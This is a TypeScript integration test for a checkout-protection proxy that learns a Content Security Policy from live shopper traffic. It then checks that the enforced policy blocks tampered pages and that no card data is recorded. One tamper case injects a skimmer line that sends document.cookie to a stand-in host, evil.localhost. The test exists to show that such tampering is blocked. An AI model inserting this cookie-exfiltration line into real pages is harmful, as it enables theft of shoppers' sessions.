/**
 * Issue 18 item 4, learning from live traffic: `serve --learn` on report routes records what real
 * shoppers' pages load, their inline code and the browser's CSP reports, so a payment library the
 * shop's bundle injects at run time (which no crawl of the markup sees) is learned. `payguard
 * policy draft` turns the record into a policy; justified and signed, it serves the same shop in
 * block mode with the injected library running under the enforced CSP, and catches tampering.
 * The record never holds a request body, a card number or the values that varied per shopper.
 */
import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import type { IncomingMessage, ServerResponse } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Browser } from 'playwright-core';
import { request } from 'undici';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parsePolicyText } from '../../src/policy/parse.js';
import { compilePolicy } from '../../src/policy/compiled.js';
import { launchChromium } from '../helpers/chromium.js';
import { buildCliAsync, runPayguard } from '../helpers/cli.js';
import { startStorefront, type Storefront } from '../helpers/upstreams.js';
import { startHarness, type Harness } from '../proxy/support.js';
import { SITE, GATEWAY, startInternet, type Internet } from '../second-layer/internet.js';

const FIXTURES = new URL('./fixtures/live-shop/', import.meta.url);
const CHECKOUT = readFileSync(new URL('checkout.html', FIXTURES), 'utf8');
const APP_JS = readFileSync(new URL('app.js', FIXTURES));
const APP_JS_SRI = `sha384-${createHash('sha384').update(APP_JS).digest('base64')}`;
const CARD = '4111111111111111';

const LEARNING_POLICY = `schema: 1
serial: 1
site: ${SITE}
routes:
  - { path: /**, mode: report }
allow: {}
`;

type Tamper = 'none' | 'extra-statement' | 'foreign-url-in-slot' | 'renamed-key' | 'card-in-state';

/** The shop: a per-session cart and e-mail, a per-request token and time, and the bundle. */
class LiveShop {
  tamper: Tamper = 'none';
  /** Every per-shopper value it rendered: none may reach the record. */
  readonly rendered: string[] = [];
  private readonly sessions = new Map<string, { email: string; cart: string }>();

  handle = (req: IncomingMessage, res: ServerResponse): void => {
    let sid = /(?:^|;\s*)sid=(\w+)/.exec(req.headers.cookie ?? '')?.[1];
    if (!sid || !this.sessions.has(sid)) {
      sid = randomBytes(6).toString('hex');
      const items = Array.from({ length: 1 + (randomBytes(1)[0]! % 4) }, (_, i) => ({ sku: `TEE-${i}`, qty: 1 + i, price: 19.5 + i }));
      this.sessions.set(sid, { email: `shopper.${randomBytes(4).toString('hex')}@mail.example`, cart: JSON.stringify({ id: randomBytes(5).toString('hex'), items }) });
      res.setHeader('set-cookie', `sid=${sid}; Path=/; HttpOnly`);
    }
    const session = this.sessions.get(sid)!;
    if (req.method === 'POST') {
      req.resume();
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      res.end('<!DOCTYPE html><p>Thank you');
      return;
    }
    const token = this.tamper === 'foreign-url-in-slot' ? 'https://evil.localhost/c' : randomBytes(12).toString('base64url');
    this.rendered.push(token, session.email);
    let html = CHECKOUT.replace(/\{\{(\w+)\}\}/g, (_, name: string) =>
      name === 'token' ? token : name === 'email' ? session.email : name === 'cart' ? session.cart : String(1_765_000_000 + (randomBytes(2).readUInt16BE(0) % 9999)),
    );
    if (this.tamper === 'extra-statement') html = html.replace('var eContext', 'new Image().src="//evil.localhost/c?"+document.cookie;var eContext');
    if (this.tamper === 'renamed-key') html = html.replace('"customer"', '"customer_"');
    if (this.tamper === 'card-in-state') html = html.replace('"requestToken"', `"lastCard":"${CARD}","requestToken"`);
    res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    res.end(html);
  };
}

async function visitCheckout(browser: Browser, renderings: number): Promise<{ statuses: number[]; refused: string[]; tokenizer: (string | undefined)[]; stateRan: (string | undefined)[] }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const refused: string[] = [];
  page.on('console', (m) => {
    if (m.text().includes('Content Security Policy') && !m.text().includes('report-only')) refused.push(m.text());
  });
  const result = { statuses: [] as number[], refused, tokenizer: [] as (string | undefined)[], stateRan: [] as (string | undefined)[] };
  try {
    for (let i = 0; i < renderings; i++) {
      const response = await page.goto(`${SITE}/checkout`);
      result.statuses.push(response?.status() ?? 0);
      await page.waitForFunction(() => (globalThis as { tokenizerLoaded?: string }).tokenizerLoaded !== undefined, undefined, { timeout: 10_000 }).catch(() => undefined);
      result.tokenizer.push(await page.evaluate(() => (globalThis as { tokenizerLoaded?: string }).tokenizerLoaded));
      result.stateRan.push(await page.evaluate(() => (globalThis as unknown as { document: { documentElement: { dataset: Record<string, string | undefined> } } }).document.documentElement.dataset['stateRan']));
    }
  } finally {
    await context.close();
  }
  return result;
}

describe('learning from live traffic: serve --learn, then policy draft', () => {
  const shop = new LiveShop();
  let storefront: Storefront;
  let dir: string;
  let recordFile: string;

  beforeAll(async () => {
    await buildCliAsync();
    dir = mkdtempSync(join(tmpdir(), 'payguard-live-learning-'));
    recordFile = join(dir, 'learned.json');
    storefront = await startStorefront({
      '/checkout': shop.handle,
      '/checkout/pay': shop.handle,
      '/static/app.js': { headers: [['content-type', 'text/javascript']], body: APP_JS },
    });
  }, 600_000);
  afterAll(async () => {
    await storefront?.close();
    if (dir) rmSync(dir, { recursive: true, force: true });
  });

  /** payguard in front of the shop with `policyYaml`, Chromium reaching it as shop.localhost. */
  async function behindPayguard<T>(policyYaml: string, learnFile: string | undefined, run: (harness: Harness, browser: Browser) => Promise<T>): Promise<T> {
    const harness = await startHarness(storefront, { policyYaml, ...(learnFile ? { learnFile } : {}) });
    let internet: Internet | undefined;
    let proxied: Browser | undefined;
    try {
      internet = await startInternet(harness.payguard.publicUrl);
      proxied = await launchChromium({ proxy: internet.proxyUrl });
      return await run(harness, proxied);
    } finally {
      await proxied?.close();
      await internet?.close();
      await harness.stop();
    }
  }

  it('learns the checkout from shoppers: inline state by template, the injected tokenizer from CSP reports, and no shopper data', async () => {
    await behindPayguard(LEARNING_POLICY, recordFile, async (harness, chromium) => {
      for (let shopper = 0; shopper < 2; shopper++) {
        const visit = await visitCheckout(chromium, 4);
        // Report mode: nothing is refused, the shop works as before.
        expect(visit.statuses).toEqual([200, 200, 200, 200]);
        expect(visit.tokenizer).toEqual(['genuine', 'genuine', 'genuine', 'genuine']);
      }
      // A shopper pays: the body passes through, and is never read for learning.
      const paid = await request(`${harness.payguard.publicUrl}/checkout/pay`, { method: 'POST', headers: { 'content-type': 'application/x-www-form-urlencoded', 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate' }, body: `cardnumber=${CARD}&cvc=123` });
      expect(paid.statusCode).toBe(200);
      await paid.body.text();
      // An inline state that holds a card-like number is not learned from.
      shop.tamper = 'card-in-state';
      const withCard = await request(`${harness.payguard.publicUrl}/checkout`, { headers: { 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate' } });
      await withCard.body.text();
      shop.tamper = 'none';
      // The site is http, so reports come by report-uri, at once; poll, bounded.
      for (let i = 0; i < 40 && !harness.logLines().some((l) => l['event'] === 'csp-report' && String(l['blocked']).startsWith(GATEWAY)); i++) await new Promise((r) => setTimeout(r, 250));
      await new Promise((r) => setTimeout(r, 300));
    });

    const text = readFileSync(recordFile, 'utf8');
    const record = JSON.parse(text) as { documents: number; reported: { address: string; directive: string; reports: number }[]; inline: { kind: string; template?: string }[]; skipped: Record<string, number>; loads: { address: string }[] };
    expect(statSync(recordFile).mode & 0o777).toBe(0o600);
    expect(record.documents).toBeGreaterThanOrEqual(8);
    expect(record.reported).toEqual(expect.arrayContaining([expect.objectContaining({ address: `${GATEWAY}/v3/token.js`, directive: 'script-src-elem' })]));
    expect(record.loads.map((l) => l.address)).toContain(`${SITE}/static/app.js`);
    const templates = record.inline.filter((e) => e.kind === 'template');
    expect(templates).toHaveLength(1);
    // The state object keeps its keys; only its values, and the cart's rows as one JSON slot, vary.
    expect(templates[0]!.template).toContain('var eContext = {"requestToken":$slot$requestToken,"customer":{"email":$slot$email},"cart":{"id":$slot$id,"items":$slot$items},"renderedAt":$slot$renderedAt};');
    expect(record.skipped['card-like-number']).toBe(1);
    // Nothing a shopper sent or was shown that varied: no card, no token, no e-mail, no cart id.
    expect(text).not.toContain(CARD);
    expect(text).not.toContain('cvc');
    for (const value of new Set(shop.rendered)) expect(text).not.toContain(value);
  }, 180_000);

  it('the draft, justified and signed, serves the shop in block mode: the injected tokenizer runs, tampering is blocked', async () => {
    const draftFile = join(dir, 'draft.yaml');
    const drafted = await runPayguard(['policy', 'draft', recordFile, '--out', draftFile]);
    expect(drafted.code, drafted.stderr).toBe(0);
    expect(drafted.stderr).toMatch(/1 from browser reports, \d+ inline hash\(es\), 1 template\(s\)/);
    const draft = readFileSync(draftFile, 'utf8');
    // The reported script is drafted by exact URL, without integrity, and marked for review.
    expect(draft).toMatch(/# Seen only in browsers' CSP reports \(\d+ report\(s\) from 1 client\(s\)\), on 1 page\(s\)\.\n\s+# Anyone can post a report[^\n]*\n\s+- url: http:\/\/gateway\.localhost\/v3\/token\.js\n\s+why: TODO/);
    // What a reviewer does: justify every entry, and pin the bundle (payguard pin would).
    const justified = draft.replaceAll('why: TODO', 'why: reviewed for the test').replace('sha384-...', APP_JS_SRI);
    const policy = parsePolicyText(justified, 'draft.yaml');
    expect(compilePolicy(policy).route('/checkout').mode).toBe('block');
    writeFileSync(join(dir, 'signed.yaml'), justified);

    await behindPayguard(justified, undefined, async (harness, chromium) => {
      for (let shopper = 0; shopper < 2; shopper++) {
        const visit = await visitCheckout(chromium, 3);
        expect(visit.statuses).toEqual([200, 200, 200]);
        expect(visit.tokenizer).toEqual(['genuine', 'genuine', 'genuine']);
        expect(visit.stateRan.every((n) => n !== undefined && Number(n) >= 1)).toBe(true);
        expect(visit.refused).toEqual([]);
      }
      for (const tamper of ['extra-statement', 'foreign-url-in-slot', 'renamed-key'] as const) {
        shop.tamper = tamper;
        const tampered = await request(`${harness.payguard.publicUrl}/checkout`, { headers: { 'sec-fetch-dest': 'document', 'sec-fetch-mode': 'navigate' } });
        await tampered.body.text();
        expect(tampered.statusCode, tamper).toBe(502);
      }
      shop.tamper = 'none';
    });
  }, 180_000);

  it('a record that is not one is refused with the file and the field', async () => {
    const bad = join(dir, 'bad.json');
    writeFileSync(bad, JSON.stringify({ format: 1, site: SITE, firstSeen: '', lastSeen: '', documents: 1, pages: [], loads: [{ list: 'scripts' }], reported: [], inline: [] }));
    const result = await runPayguard(['policy', 'draft', bad]);
    expect(result.code).toBe(1);
    expect(result.stderr).toContain(`${bad} (loads[0].list): expected one of form, script`);
    writeFileSync(bad, '{"format": 1,');
    expect((await runPayguard(['policy', 'draft', bad])).stderr).toContain(`${bad}: not JSON`);
  });
});
